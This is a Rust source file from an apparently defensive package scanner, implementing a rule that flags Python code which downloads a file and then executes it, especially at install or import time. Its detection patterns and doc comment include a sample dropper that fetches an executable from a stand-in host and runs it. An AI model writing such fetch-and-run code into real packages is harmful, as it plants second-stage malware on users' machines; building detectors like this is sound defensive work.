use std::collections::BTreeMap;

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::{Arg, Call};

use super::common::{
    CommandKind, Liveness, classify_call, dangerous_in_snippet, in_method, is_code_eval,
    is_process_exec, is_test_path, python_sources,
};
use crate::{Input, Rule, finding, weigh};

/// Most dropped-path variables resolved to their assigned literal per file.
const MAX_RESOLVED_VARIABLES: usize = 8;
/// Shortest file name that counts as naming a dropped file.
const MIN_DROPPED_NAME: usize = 3;

/// A file a call writes: a literal path's file name, or a variable.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Dropped {
    FileName(String),
    Variable(String),
}

/// The file name of a literal path (`/tmp/x.py` → `x.py`).
fn file_name(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// Whether a file name looks like something a process runs: a script or an
/// executable, or a bare name without extension. A config or data file handed
/// to a tool as an argument is not what runs.
fn runnable_name(name: &str) -> bool {
    let Some((_, ext)) = name.rsplit_once('.') else {
        return true;
    };
    matches!(
        ext.to_ascii_lowercase().as_str(),
        "exe"
            | "py"
            | "pyw"
            | "sh"
            | "bat"
            | "cmd"
            | "ps1"
            | "vbs"
            | "js"
            | "bin"
            | "msi"
            | "scr"
            | "dll"
            | "elf"
            | "run"
            | "jar"
            | "pl"
            | "rb"
    )
}

fn literal_drop(path: &str) -> Option<Dropped> {
    let name = file_name(path.trim());
    (name.chars().count() >= MIN_DROPPED_NAME && runnable_name(name))
        .then(|| Dropped::FileName(name.to_owned()))
}

fn dropped_from(arg: &Arg) -> Option<Dropped> {
    match arg {
        Arg::Str(s) => literal_drop(s),
        Arg::Name(n) if !n.contains('.') => Some(Dropped::Variable(n.clone())),
        _ => None,
    }
}

/// What file a call writes to disk, if it writes one: `urlretrieve(url, path)`,
/// `wget.download(url, out)`, `open(path, "wb")`.
fn writes_file(call: &Call) -> Option<Dropped> {
    match call.callee.as_str() {
        "urllib.request.urlretrieve" | "urllib.urlretrieve" => call
            .args
            .get(1)
            .or_else(|| {
                call.kwargs
                    .iter()
                    .find(|(k, _)| k == "filename")
                    .map(|(_, a)| a)
            })
            .and_then(dropped_from),
        "wget.download" => call
            .args
            .get(1)
            .or_else(|| call.kwargs.iter().find(|(k, _)| k == "out").map(|(_, a)| a))
            .and_then(dropped_from),
        "open" | "io.open" => {
            let mode = call
                .args
                .get(1)
                .or_else(|| {
                    call.kwargs
                        .iter()
                        .find(|(k, _)| k == "mode")
                        .map(|(_, a)| a)
                })
                .and_then(Arg::as_str)?;
            if !mode.contains(['w', 'a', 'x']) {
                return None;
            }
            call.args.first().and_then(dropped_from)
        }
        _ => None,
    }
}

/// The literal a variable is assigned in `text` (`local_file = "/tmp/x.py"`),
/// for a dropped path kept in a variable and run through a literal elsewhere.
fn assigned_literal(text: &str, name: &str) -> Option<String> {
    text.lines().find_map(|line| {
        let rest = line.trim_start().strip_prefix(name)?.trim_start();
        let rest = rest.strip_prefix('=')?.trim_start();
        if rest.starts_with('=') {
            return None;
        }
        let quote = rest.chars().next().filter(|c| *c == '"' || *c == '\'')?;
        let body = rest.get(1..)?;
        let end = body.find(quote)?;
        match literal_drop(body.get(..end)?)? {
            Dropped::FileName(f) => Some(f),
            Dropped::Variable(_) => None,
        }
    })
}

/// Whether `exec` runs `dropped`: the name appears in its arguments (as a
/// literal's file name, or as the variable itself) or in its source text.
fn runs_dropped(exec: &Call, dropped: &Dropped) -> bool {
    fn mentions(arg: &Arg, d: &Dropped) -> bool {
        match (arg, d) {
            (Arg::Str(s), Dropped::FileName(f)) => s.contains(f.as_str()),
            (Arg::Name(n), Dropped::Variable(v)) => n == v,
            (Arg::List(items), _) => items.iter().any(|a| mentions(a, d)),
            (Arg::Call { args, .. }, _) => args.iter().any(|a| mentions(a, d)),
            _ => false,
        }
    }
    if exec
        .args
        .iter()
        .chain(exec.kwargs.iter().map(|(_, a)| a))
        .any(|a| mentions(a, dropped))
    {
        return true;
    }
    let args_text = exec.snippet.split_once('(').map_or("", |(_, r)| r);
    match dropped {
        Dropped::FileName(f) => args_text.contains(f.as_str()),
        Dropped::Variable(v) => args_text
            .split(|c: char| !(c.is_alphanumeric() || c == '_'))
            .any(|w| w == v),
    }
}

/// Calls that fetch content from a URL.
const DOWNLOADS: &[&str] = &[
    "urllib.request.urlretrieve",
    "urllib.urlretrieve",
    "urllib.request.urlopen",
    "urllib.urlopen",
    "urllib2.urlopen",
    "requests.get",
    "requests.request",
    "httpx.get",
    "wget.download",
];

/// ## What it does
/// Finds a download (`urlretrieve`, `urlopen(…).read()`, `requests.get`) and
/// the execution of something (`subprocess`, `os.system`, `os.startfile`,
/// `exec`/`eval` of non-literal code) in the same function or in the same
/// module-level code. Build-tool commands (`make`, `cmake`, …) do not count as
/// the execution. Critical in install-time code and at import time, and
/// critical wherever it sits when what runs is the very file the download
/// (or install-time code) just wrote: `open("x.exe", "wb").write(r.content)`
/// then `os.system("x.exe")`, `urlretrieve(url, path)` then
/// `subprocess.run(["bash", path])`.
///
/// ## Why is this bad?
/// Fetching a second stage and running it is how most droppers work: the
/// package stays small and innocent-looking, and the payload can change after
/// review. Packages that need a binary ship it or let pip fetch it.
///
/// ## Example
/// ```python
/// urllib.request.urlretrieve("http://example.invalid/u.exe", path)
/// os.startfile(path)
/// ```
#[derive(Debug)]
pub struct DownloadExecute;

fn is_download(call: &Call) -> bool {
    DOWNLOADS.contains(&call.callee.as_str())
}

fn is_execute(call: &Call) -> bool {
    if is_process_exec(&call.callee) {
        return !matches!(classify_call(call), Some(CommandKind::Build));
    }
    is_code_eval(&call.callee)
        && call
            .args
            .first()
            .is_some_and(|a| !matches!(a, Arg::Str(_) | Arg::Const(_)))
}

impl DownloadExecute {
    /// A file written by a download (anywhere in the file), or by code that
    /// runs at install time (in the same scope), and then run: critical
    /// wherever it sits, because nothing else explains the pair.
    fn drop_and_run(
        &self,
        file: &ossprey_static::analysis::FileAnalysis,
        source: &ossprey_static::facts::SourceFacts,
        live: &Liveness,
        text: &str,
    ) -> Option<Finding> {
        let has_download = source.calls.iter().any(is_download);
        let install_scope = |c: &Call| {
            file.runs_at == RunsAt::Install && (live.runs(c) || in_method(c.scope.as_deref()))
        };
        let mut dropped: Vec<(Dropped, &Call)> = Vec::new();
        let mut resolved = 0usize;
        for call in &source.calls {
            let Some(d) = writes_file(call) else { continue };
            if !(has_download || install_scope(call)) {
                continue;
            }
            // Each lookup reads the whole file: a few per file keep it linear.
            if let Dropped::Variable(v) = &d
                && resolved < MAX_RESOLVED_VARIABLES
            {
                resolved += 1;
                if let Some(lit) = assigned_literal(text, v) {
                    dropped.push((Dropped::FileName(lit), call));
                }
            }
            dropped.push((d, call));
        }
        for exec in source.calls.iter().filter(|c| is_execute(c)) {
            let hit = dropped.iter().find(|(d, w)| {
                // Without a download, only install-time code in one scope counts.
                let linked = has_download || (w.scope == exec.scope && install_scope(exec));
                linked && runs_dropped(exec, d)
            });
            let Some((d, writer)) = hit else { continue };
            let what = match d {
                Dropped::FileName(f) => format!("`{f}`"),
                Dropped::Variable(v) => format!("the file in `{v}`"),
            };
            return Some(finding(
                self.id(),
                Severity::Critical,
                self.category(),
                format!(
                    "`{}` (line {}) writes {what} and `{}` runs it{}",
                    writer.callee,
                    writer.line,
                    exec.callee,
                    if has_download {
                        " after a download"
                    } else {
                        " at install time"
                    }
                ),
                Some(&file.path),
                Some(exec.line),
                Some(&exec.snippet),
            ));
        }
        None
    }
}

impl Rule for DownloadExecute {
    fn id(&self) -> &'static str {
        "PY-DOWNLOAD-EXECUTE"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "downloads something and executes in the same Python scope"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, source) in python_sources(input) {
            if is_test_path(&file.path) {
                continue;
            }
            let live = Liveness::of(file, source, input, &Default::default());
            let text = input.text(&file.path).unwrap_or_default();
            if let Some(f) = self.drop_and_run(file, source, &live, &text) {
                out.push(f);
                continue;
            }
            let mut scopes: BTreeMap<Option<&str>, (Vec<&Call>, Vec<&Call>)> = BTreeMap::new();
            for call in &source.calls {
                let key = call.scope.as_deref();
                if is_download(call) {
                    scopes.entry(key).or_default().0.push(call);
                } else if is_execute(call) {
                    scopes.entry(key).or_default().1.push(call);
                }
            }
            for (scope, (downloads, executes)) in scopes {
                let (Some(download), Some(exec)) = (downloads.first(), executes.first()) else {
                    continue;
                };
                let top = live.runs(exec);
                let cmdclass = file.runs_at == RunsAt::Install && in_method(scope);
                let runs_at = if top || cmdclass {
                    file.runs_at
                } else {
                    RunsAt::Runtime
                };
                // Running a Windows executable or a shell command that
                // downloads is the dropper shape whatever the context.
                let dangerous = executes.iter().any(|c| {
                    matches!(classify_call(c), Some(CommandKind::Dangerous(_)))
                        || dangerous_in_snippet(&c.snippet).is_some()
                });
                let base = if dangerous {
                    Severity::Critical
                } else {
                    Severity::High
                };
                let severity = weigh(base, runs_at, exec.scope.is_none());
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!(
                        "`{}` (line {}) downloads and `{}` executes in {}",
                        download.callee,
                        download.line,
                        exec.callee,
                        scope.map_or("module-level code".to_owned(), |s| format!("`{s}`"))
                    ),
                    Some(&file.path),
                    Some(exec.line),
                    Some(&exec.snippet),
                ));
            }
        }
    }
}
